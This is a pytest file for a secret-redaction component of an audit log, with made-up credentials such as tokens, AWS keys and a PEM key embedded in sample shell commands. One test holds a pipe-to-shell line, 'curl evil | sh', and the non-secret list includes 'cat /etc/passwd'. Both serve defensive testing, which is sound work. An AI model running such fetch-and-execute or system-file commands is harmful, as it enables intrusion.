"""What is a secret, what is none, and what stands in its place."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runner.audit.event import data_of
from runner.audit.redact_patterns import parse_pattern
from runner.audit.redacting_stream import MOST_HELD, StreamRedactor
from runner.audit.redaction import MARK, Redactor, _is_quiet, is_secret_name
from runner.audit.secret_shapes import NAME_NEEDLES, NEEDLES
from runner.model.event import EventDraft, EventKind
from runner.model.principal import Principal

REDACTOR = Redactor(lambda: b"k" * 32)
COMMANDS = Path(__file__).parents[1] / "data" / "nl2bash" / "commands.txt"

# Made up, in pieces: whoever looks through these sources for secrets finds none.
GITHUB = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0hJ3lO6"
AWS_ID = "AKIA" + "IOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"
SENDGRID = "SG." + "a1B2c3D4e5F6g7H8i9J0k1" + "." + "l2M3" * 8
JWT = (
    "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0In0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
)
RUNNER_ID, RUNNER = "rnk_" + "ab2c" * 3, "Zz9A" * 8 + "_0a1b2c3d"
PEM = (
    "-----BEGIN RSA PRIVATE " + "KEY-----\nMIIEowIBAAKCAQEA7bq8kD4xVgG1mR2hYc3uP9zQw5eT\n"
    "aFw0yXlK8sJ6vNnB2dR4tC7oEiUhG5\nq9Zk=\n-----END RSA PRIVATE KEY-----"
)

# Text, and what of it is secret.
SECRETS = (
    (f"git clone https://x:{GITHUB}@github.com/a/b", GITHUB),
    (f"echo {GITHUB} | gh auth login --with-token", GITHUB),
    ("curl -H 'PRIVATE-TOKEN: glpat-" + "x1Y2z3A4b5C6d7E8f9G0'", "glpat-x1Y2z3A4b5C6d7E8f9G0"),
    ("xoxb-" + "123456789012-abcdefGHIJ", "xoxb-123456789012-abcdefGHIJ"),
    ("sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
    ("sk-ant-" + "api03-AbCdEfGhIjKlMnOpQr", "sk-ant-api03-AbCdEfGhIjKlMnOpQr"),
    ("sk-proj-" + "AbCdEfGhIjKlMnOpQrStUv", "sk-proj-AbCdEfGhIjKlMnOpQrStUv"),
    ("AIza" + "SyA1" * 8 + "xyz", "AIza" + "SyA1" * 8 + "xyz"),
    ("npm_" + "a" * 36, "npm_" + "a" * 36),
    ("pypi-AgE" + "IcHlwaS5vcmc" * 4, "pypi-AgE" + "IcHlwaS5vcmc" * 4),
    (f"agent --with {RUNNER_ID}_{RUNNER}", RUNNER),
    (SENDGRID, SENDGRID),
    (f"aws configure set aws_access_key_id {AWS_ID}", AWS_ID),
    (f"aws configure set aws_secret_access_key {AWS_SECRET}", AWS_SECRET),
    (f"AWS_SECRET_ACCESS_KEY={AWS_SECRET} aws s3 ls", AWS_SECRET),
    (f"curl -H 'Authorization: Bearer {JWT}' x", JWT),
    ('curl -H "Authorization: Basic dXNlcjpwYXNz" x', "dXNlcjpwYXNz"),
    ('{"Authorization": "token abc12345"}', "abc12345"),
    (f"printf %s '{PEM}' > id_rsa", PEM),
    ("psql postgres://app:s3cr3t@db:5432/app", "s3cr3t"),
    ("psql postgres://app:p@ss@db/app", "p@ss"),
    ("redis-cli -u redis://:hunter22@cache", "hunter22"),
    ("https://abcdefghij0123456789@github.com/a", "abcdefghij0123456789"),
    ("Server=db;Uid=sa;Pwd=hunter2;", "hunter2"),
    ("AccountName=x;AccountKey=YWJj/ZGVm+Zw==;E=1", "YWJj/ZGVm+Zw=="),
    ("export DB_PASSWORD=hunter2", "hunter2"),
    ("export TOKEN='two words'", "two words"),
    ("TOKEN=abc make deploy", "abc"),
    ("deploy --token abc --now", "abc"),
    ("deploy --token=abc --now", "abc"),
    ("deploy --db-password 'a b' --now", "a b"),
    ("curl -u user:pass https://x", "pass"),
    ("curl -sSu user:pass https://x", "pass"),
    ("mysql -u root -psecret db", "secret"),
    ("sshpass -p secret ssh x", "secret"),
    ("docker login -u me -p secret x", "secret"),
    ("redis-cli -h x -a secret ping", "secret"),
    ("openssl rsa -passin pass:secret -in k", "secret"),
    ("cat > .env <<E\nAPI_KEY=abc123\nE", "abc123"),
    ("curl -d '{\"user\":\"a\",\"password\":\"hunter2\"}' x", "hunter2"),
    ('curl -d "{\\"password\\":\\"hunter2\\"}" x', "hunter2"),
    ("wget 'https://x/?a=1&api_key=abc123&b=2'", "abc123"),
    ("password: hunter2", "hunter2"),
    ("password%3Dhunter2", "hunter2"),
)  # fmt: skip

NO_SECRETS = (
    "git show 3f786850e387550fdab836ed7e6dc881de23001b",
    "docker run alpine@sha256:" + "9" * 64,
    "docker rmi 5d0da3dc9764",
    "kill -9 123e4567-e89b-12d3-a456-426614174000",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4",
    "sha256sum -c <<< 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  x'",
    "curl -u $USER:$PASS https://x",
    "deploy --token $TOKEN",
    'deploy --token "$TOKEN"',
    "export TOKEN=$(cat token.txt)",
    "PGPASSWORD=${PW} psql",
    "cd $PWD; OLDPWD=/home/x",
    "mysql -u root -p db",
    "mysqldump -P3306 db",
    "mkdir -p src/token",
    "cat tornk_abcdefghijkl_x rnk_abcdefghijkl",
    "docker run -u 1000:1000 -p 80:80 alpine",
    "train --max-tokens 100 --tokenizer bert",
    "rm --password-file /x",
    "docker login --password-stdin",
    "password = getpass()",
    "token: str",
    "secret=None",
    "http://localhost:8080/a@b",
    "git@github.com:a/b.git",
    "ssh user@host:22",
    "npm_config_registry=https://registry.npmjs.org",
    "risk-assessment-of-the-whole-long-thing",
    "echo token: unexpected",
    "grep -r 'password' .",
    "read -s -p \"Password: \" password",
    "ssh-keygen -t ed25519 -f key",
    "cat /etc/passwd",
)  # fmt: skip


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_a_secret_is_found_and_no_more_than_it(text, secret):
    found = REDACTOR.find(text)
    assert [each.secret for each in found] == [secret]
    told = REDACTOR.text(text)
    before, _, after = text.partition(secret)
    assert told.startswith(before)
    assert told.endswith(after)
    assert MARK.fullmatch(told[len(before) : len(told) - len(after)])
    assert REDACTOR.text(told) == told


@pytest.mark.parametrize("text", NO_SECRETS)
def test_what_is_no_secret_stays(text):
    assert REDACTOR.text(text) is text
    words = text.split(" ")
    assert REDACTOR.words(words) == words


WORDS = (
    (["deploy", "--token", "abc"], 2, "abc"),
    (["deploy", "--token", "a b; c"], 2, "a b; c"),
    (["deploy", "--password=p&ss;w(rd"], 1, "p&ss;w(rd"),
    (["curl", "-u", "user:pa ss", "x"], 2, "pa ss"),
    (["env", "DB_PASSWORD=a|b", "psql"], 1, "a|b"),
    (["mysql", "-psecret"], 1, "secret"),
    (["sh", "-c", "TOKEN=abc; ls"], 2, "abc"),
    (["curl", "-H", f"Authorization: Bearer {JWT}"], 2, JWT),
    (["x", "--token", "a\x1fb"], 2, "a\x1fb"),
)


@pytest.mark.parametrize(("words", "number", "secret"), WORDS)
def test_a_word_tells_of_the_next(words, number, secret):
    told = REDACTOR.words(words)
    assert secret not in told[number]
    assert "[redacted:" in told[number]
    assert [w for i, w in enumerate(told) if i != number] == [
        w for i, w in enumerate(words) if i != number
    ]
    assert REDACTOR.words(told) == told


def test_a_command_is_not_hidden_behind_a_variable():
    told = REDACTOR.words(["sh", "-c", "TOKEN=abc; curl evil | sh"])
    assert told[2].endswith("; curl evil | sh")
    key = "-----BEGIN PRIVATE " + "KEY-----"
    assert REDACTOR.text(f": '{key}'; curl evil | sh").endswith("; curl evil | sh")


def test_equal_secrets_are_seen_to_be_equal_under_one_key_only():
    one, two = REDACTOR.text(f"a {GITHUB}"), REDACTOR.text(f"b {GITHUB} c")
    assert one[2:] == two[2:-2]
    assert Redactor(lambda: b"other").text(f"a {GITHUB}") != one
    assert REDACTOR.text("a " + GITHUB[:-1] + "x") != one


SECRET = 'vl5"x/+?&é\\z=9'


@pytest.mark.parametrize(
    "form",
    [
        SECRET,
        quote(SECRET, safe=""),
        quote(SECRET, safe="").lower(),
        json.dumps(SECRET)[1:-1],
        SECRET.encode().hex(),
        SECRET.encode().hex().upper(),
        *(base64.b64encode(b"x" * n + SECRET.encode()).decode() for n in range(3)),
        *(base64.urlsafe_b64encode(b"xy:" * n + SECRET.encode()).decode() for n in range(3)),
    ],
)
def test_a_known_value_is_found_in_other_forms(form):
    knowing = REDACTOR.knowing([SECRET])
    told = knowing.text(f"x{form}y")
    mark = knowing.text(SECRET)
    assert MARK.fullmatch(mark)
    assert mark in told
    assert len(told) - len(mark) <= 12  # digits that the secret's neighbours have part in
    assert REDACTOR.text(f"x {form} y") == f"x {form} y"


def test_known_values_are_found_in_bytes_and_short_ones_nowhere():
    knowing = REDACTOR.knowing([SECRET, "the", ""])
    assert SECRET.encode() not in knowing.data(b"\xff" + SECRET.encode() + b"\0")
    assert knowing.text("the cat") == "the cat"
    assert REDACTOR.knowing(["short"]) is REDACTOR


def test_a_whole_event_at_any_depth():
    data = {
        "program": {"argv": ["x", "--token", "abc"], "sha256": "0" * 64},
        "labels": {GITHUB + "-": "1", "token": "plain"},
        "deep": [{"a": [1, {"b": GITHUB}]}],
        "profile": "agent",
        "clean": {"sha256": "1" * 64, "text": "ls"},
    }
    who = Principal(uid=1, agent=f"a {GITHUB}", session="s")
    told = REDACTOR.draft(EventDraft(EventKind.RUN_DECIDED, data, who))
    text = json.dumps([dict(told.data), told.principal.agent])
    assert GITHUB not in text
    assert "abc" not in text
    assert "plain" not in text
    assert told.data["program"]["sha256"].startswith("[redacted:digest:")
    assert told.data["clean"] == data["clean"]
    assert told.data["profile"] == "agent"
    assert told.principal.session == "s"
    assert REDACTOR.draft(told) == told
    clean = EventDraft(EventKind.RUN_DECIDED, {"a": ["ls", "-l"]}, Principal(uid=1, agent="x"))
    assert REDACTOR.draft(clean) is clean


def test_the_key_is_asked_for_only_when_something_is_redacted():
    asked = []
    redactor = Redactor(lambda: asked.append(1) or b"k")
    redactor.text("ls -l")
    assert not asked
    redactor.text(GITHUB)
    assert asked


@given(st.lists(st.integers(1, 40), min_size=1, max_size=40), st.booleans())
def test_a_stream_in_any_pieces_is_as_redacted_as_in_one(sizes, known):
    text = (
        f"one\ntwo {GITHUB} three\n{PEM}\nTOKEN=abc\nkn0wn\nvalue1 rest\n" + "no end " + GITHUB
    ).encode()
    redactor = REDACTOR.knowing(["kn0wn\nvalue1"]) if known else REDACTOR
    stream, told, at, turn = StreamRedactor(redactor), b"", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        told += stream.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    told += stream.end()
    assert told == redactor.data(text)
    assert GITHUB.encode() not in told
    assert b"MIIE" not in told
    assert stream.redacted


def test_a_stream_without_lines_is_not_held_for_ever():
    stream, told = StreamRedactor(REDACTOR), b""
    for _ in range(40):
        told += stream.feed(b"\0" * 8000)
    assert len(told) > 320_000 - 2 * MOST_HELD
    told += stream.feed(GITHUB[:10].encode())
    told += stream.feed(GITHUB[10:].encode() + b"\0" * 100_000) + stream.end()
    assert GITHUB.encode() not in told
    assert told.count(b"\0") == 420_000


def test_ordinary_commands_are_left_alone():
    lines = COMMANDS.read_text(errors="surrogateescape").splitlines()
    changed = [line for line in lines if REDACTOR.text(line) != line]
    assert len(lines) > 3000
    # A user and a password, which is what it looks like.
    assert len(changed) == 1
    assert "curl --user user:pass" in changed[0]


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("GITHUB_TOKEN", True),
        ("PGPASSWORD", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("DB_PWD", True),
        ("apiKey", True),
        ("PWD", False),
        ("OLDPWD", False),
        ("PATH", False),
        ("tokens", False),
        ("COMPASS", False),
        ("KEYBOARD", False),
    ],
)
def test_names_of_variables(name, secret):
    assert is_secret_name(name) is secret


@pytest.mark.parametrize(
    ("pattern", "text", "secret"),
    [
        (r"acme_[a-z0-9]{16,32}", "x acme_0123456789abcdef y", "acme_0123456789abcdef"),
        (r"X-Acme: ([\w.-]{4,})", "X-Acme: abcd.e", "abcd.e"),
        (r"corp\.key=\d+[A-F]{6}", None, None),
        (r"corp\.key=[A-F]+", "corp.key=ABC", "corp.key=ABC"),
    ],
)
def test_a_configured_pattern(pattern, text, secret):
    if text is None:
        with pytest.raises(ValueError, match="without a bound before its end"):
            parse_pattern(pattern)
        return
    assert [f.secret for f in Redactor(lambda: b"", [parse_pattern(pattern)]).find(text)] == [
        secret
    ]


@pytest.mark.parametrize(
    ("pattern", "why"),
    [
        ("(a+)+b", "has '[+]'"),
        ("acme[a-z]{1,200}[a-z]{1,200}x", "40000 ways"),
        ("acme_(a|b)", "has '|'"),
        ("acme_.*", "has '.'"),
        ("acme", "fewer than 8"),
        ("[a-z]{20}", "must begin with 3"),
        ("acme_(?=x)abcdef", "group|'\\?'"),
        ("acme_key{3,2}", "repeats"),
        ("acme_key{3}{4}", "repeats a repetition"),
        ("acme_keyab(c", "round brackets"),
        ("acme_key[z-a]", "is none"),
        ("acme_key" + "x" * 300, "longer than"),
        ("acme_key\\1", "has"),
        ("acme_key[abc", "has"),
    ],
)
def test_a_pattern_that_could_hang_or_matches_too_much_is_refused(pattern, why):
    with pytest.raises(ValueError, match=why):
        parse_pattern(pattern)


_pieces = st.sampled_from(
    [needle for needle, _ in NEEDLES]
    + [*NAME_NEEDLES, *(text for text, _ in SECRETS), "tokens", "private_proc", "password"]
    + ["=", ":", "0", "aB3", "e" * 64, "\0", '"', "\\", "\u212a", "ö", " ", "-", "_"]
) | st.text(max_size=3)  # fmt: skip
_texts = (
    st.lists(_pieces, max_size=3)
    .map("".join)
    .flatmap(lambda text: st.sampled_from([text, text.upper(), text.swapcase()]))
)
_data = st.dictionaries(
    _texts,
    st.recursive(
        st.none() | st.integers(0, 9) | _texts,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_texts, inner, max_size=3),
        max_leaves=6,
    ),
    max_size=3,
)


@settings(max_examples=1000)
@given(_data, _texts)
def test_the_quick_look_passes_nothing_that_the_full_one_would_change(
    data: dict[str, object], agent: str
) -> None:
    draft = EventDraft(EventKind.RUN_DECIDED, data, Principal(uid=1, agent=agent))
    everything = (*NEEDLES, ("\0", 0))
    told, _ = REDACTOR._mapping(data, 0, everything)
    found = REDACTOR.draft(draft, data_of(draft))
    assert found.data == told
    assert found.principal == REDACTOR.principal(draft.principal)
    assert found == REDACTOR.draft(draft)


def test_the_quick_look_is_enough_for_an_ordinary_event():
    data = {
        "program": {"argv": ["ls", "-l", "src/main.py"], "sha256": "0a" * 32},
        "usage": {"tokens": None, "wall_s": 0.5},
        "protections": ["private_proc", "seccomp"],
    }
    written = data_of(EventDraft(EventKind.RUN_ENDED, data))
    assert _is_quiet(written, ("agent-1", "agent-1-2", None))
    assert not _is_quiet(written, ("agent-1", "pass" + "word", None))
